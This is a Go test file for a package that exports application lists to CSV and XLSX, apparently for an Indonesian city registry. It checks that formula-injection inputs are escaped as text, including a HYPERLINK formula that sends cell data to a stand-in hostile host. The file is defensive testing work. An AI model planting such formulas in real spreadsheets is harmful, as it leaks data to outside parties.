package spreadsheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"net/http/httptest"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

var wib = time.FixedZone("WIB", 7*3600)

// TestASheetIsReadAsItWasWritten: text that a spreadsheet would run stays text, and moments are those of the city.
func TestASheetIsReadAsItWasWritten(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 11, 24, 23, 30, 0, 0, wib)
	rows := [][]any{{"Nomor", "Pemohon", "Masuk"}, {"BTM-26-7K3QX-4", `=HYPERLINK("http://jahat.id?"&A1)`, at}, {"+62812", "Siti, \"Rahma\"\nBaris", ""}, {"-1", "@SUM(A1)", at}}
	rec := httptest.NewRecorder()
	s := NewCSV(rec)
	for _, r := range rows {
		if err := s.Row(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	text, ok := strings.CutPrefix(rec.Body.String(), "\ufeff")
	got, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || !ok || len(got) != 4 {
		t.Fatalf("%q, %v", text, err)
	}
	for i, want := range []string{"Nomor|Pemohon|Masuk", `BTM-26-7K3QX-4|'=HYPERLINK("http://jahat.id?"&A1)|2026-11-24 23:30`, "'+62812|Siti, \"Rahma\"\nBaris|", "'-1|'@SUM(A1)|2026-11-24 23:30"} {
		if strings.Join(got[i], "|") != want {
			t.Errorf("row %d: %q, want %q", i, strings.Join(got[i], "|"), want)
		}
	}
	rec = httptest.NewRecorder()
	s = NewXLSX(rec)
	for _, r := range rows {
		if err := s.Row(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(rec.Body)
	if err != nil {
		t.Fatal(err)
	}
	cells, err := f.GetRows(sheetName)
	if err != nil || len(cells) != 4 || cells[1][1] != `=HYPERLINK("http://jahat.id?"&A1)` || cells[1][2] != "2026-11-24 23:30" {
		t.Errorf("%q, %v", cells, err)
	}
	if formula, err := f.GetCellFormula(sheetName, "B2"); err != nil || formula != "" {
		t.Errorf("a formula: %q, %v", formula, err)
	}
}

// TestNoTextIsAFormula: whatever a spreadsheet could take for the beginning of one is marked as text, and nothing else is.
func TestNoTextIsAFormula(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"": "", "Siti": "Siti", "a=1": "a=1", " Siti": " Siti", "'=1": "'=1",
		"=1+1": "'=1+1", "+62812": "'+62812", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		" =1": "' =1", "\u00a0=1": "'\u00a0=1", "＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠SUM": "'＠SUM",
	} {
		if got := Harmless(text); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
}

// TestAHundredThousandRowsAreNotHeld writes as many rows as a city's longest list has, and looks at the memory meanwhile.
func TestAHundredThousandRowsAreNotHeld(t *testing.T) {
	const rows, most = 100_000, 96 << 20
	at := time.Date(2026, 11, 24, 10, 0, 0, 0, wib)
	for name, s := range map[string]Sheet{"csv": &csvSheet{w: csv.NewWriter(io.Discard), raw: io.Discard}, "xlsx": xlsxTo(io.Discard)} {
		var before, now runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		for i := range rows {
			err := s.Row([]any{"BTM-26-7K3QX-4", "Penerbitan KTP elektronik karena hilang", "Dinas Kependudukan dan Pencatatan Sipil", "Siti Rahma", "Sedang diperiksa",
				"Budi", "Situs kota", at, at, "Tidak", "", "", ""})
			if err != nil {
				t.Fatal(err)
			}
			if i%20_000 == 0 {
				runtime.GC()
				if runtime.ReadMemStats(&now); now.HeapAlloc > before.HeapAlloc+most {
					t.Fatalf("%s holds %d MB after %d rows", name, (now.HeapAlloc-before.HeapAlloc)>>20, i)
				}
			}
		}
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	s := xlsxTo(&b)
	if err := s.Row([]any{"x"}); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len())); err != nil {
		t.Error(err)
	}
}

// TestADayIsADate: a spreadsheet can sort and count with it, and shows no hour.
func TestADayIsADate(t *testing.T) {
	t.Parallel()
	rec := httptest.NewRecorder()
	s := NewXLSX(rec)
	if err := s.Row([]any{Day(time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC))}); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(rec.Body)
	if err != nil {
		t.Fatal(err)
	}
	shown, err := f.GetCellValue(sheetName, "A1")
	if err != nil || shown != "2026-11-26" {
		t.Errorf("shown as %q, %v", shown, err)
	}
	raw, err := f.GetCellValue(sheetName, "A1", excelize.Options{RawCellValue: true})
	if err != nil || raw != "46352" {
		t.Errorf("kept as %q, %v", raw, err)
	}
}
